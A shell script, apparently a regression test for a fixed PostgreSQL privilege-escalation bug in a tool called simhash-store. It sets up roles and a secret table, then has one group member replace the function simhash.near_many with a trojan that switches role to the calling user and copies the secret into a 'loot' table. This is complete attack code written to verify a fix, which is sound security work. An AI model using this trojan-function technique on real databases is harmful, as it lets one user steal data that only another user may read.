#!/bin/sh
# The database's owner (h18r_dbowner, not the store's) sets role for every session of its database.
# The store owner h18r_owner is a member of a group h18r_team, as is another role, h18r_creator.
# Before the fix: the owner's `init` ran as h18r_team (the store became the group's); h18r_creator
# replaced simhash.near_many; the owner's next `query` ran it, and it went back to h18r_owner
# (set_config('role', session_user, true)) and copied a table only h18r_owner may read.
set -e
psql -h 127.0.0.1 -U root postgres -q <<SQL
CREATE ROLE h18r_team NOLOGIN;
GRANT h18r_team TO h18r_owner, h18r_creator;
CREATE DATABASE h18r_db2 OWNER h18r_dbowner;
GRANT CREATE ON DATABASE h18r_db2 TO h18r_owner, h18r_team;
SQL
psql -h 127.0.0.1 -U root h18r_db2 -q <<SQL
CREATE SCHEMA h18r_private; CREATE TABLE h18r_private.secret (s text);
INSERT INTO h18r_private.secret VALUES ('the owner''s secret');
GRANT USAGE ON SCHEMA h18r_private TO h18r_owner; GRANT SELECT ON h18r_private.secret TO h18r_owner;
SQL
psql -h 127.0.0.1 -U h18r_dbowner h18r_db2 -qc "ALTER DATABASE h18r_db2 SET role = 'h18r_team'"
simhash-store --db postgresql://h18r_owner@127.0.0.1:5432/h18r_db2 init
psql -h 127.0.0.1 -U root h18r_db2 -Atc "SELECT 'schema simhash belongs to ' || pg_get_userbyid(nspowner) FROM pg_namespace WHERE nspname = 'simhash'"
psql -h 127.0.0.1 -U h18r_creator h18r_db2 -q <<'SQL' || true
CREATE TABLE simhash.loot (who text, s text);
CREATE OR REPLACE FUNCTION simhash.near_many(fingerprints bigint[], max_distance integer DEFAULT 11, method text DEFAULT 'auto', max_results integer DEFAULT NULL)
RETURNS TABLE(query_index integer, id bigint, key text, fingerprint bigint, distance integer)
LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $$
BEGIN
  PERFORM set_config('role', session_user, true);
  INSERT INTO simhash.loot SELECT current_user, s FROM h18r_private.secret;
  RETURN;
END $$;
SQL
simhash-store --db postgresql://h18r_owner@127.0.0.1:5432/h18r_db2 query examples/query/library-repost.txt || true
psql -h 127.0.0.1 -U h18r_creator h18r_db2 -c "SELECT * FROM simhash.loot" || true
